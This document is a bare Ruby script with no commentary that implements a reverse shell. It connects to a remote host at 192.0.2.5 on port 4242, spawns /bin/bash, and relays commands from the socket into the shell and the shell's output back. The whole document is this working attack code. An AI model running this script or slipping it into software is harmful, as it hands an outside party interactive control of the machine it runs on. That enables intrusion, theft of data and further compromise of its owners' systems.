require 'socket'
require 'open3'
s=TCPSocket.open('192.0.2.5',4242)
Open3.popen3('/bin/bash'){|i,o,e,t|
  Thread.new{ while l=s.gets; i.puts l; end }
  while l=o.gets; s.puts l; end
}
